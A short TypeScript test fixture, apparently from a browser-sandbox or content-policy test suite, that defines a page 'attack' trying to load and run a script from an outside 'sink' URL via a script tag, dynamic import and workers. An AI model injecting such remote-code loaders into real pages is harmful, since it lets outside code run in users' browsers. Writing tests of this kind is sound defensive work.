import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a script from elsewhere, as a tag, a module and a worker",
  script: `
    const script = document.createElement("script");
    script.src = sink;
    document.head.append(script);
    await import(sink).catch(() => {});
    for (const Kind of [Worker, SharedWorker]) try { new Kind(sink); } catch {}
  `,
};
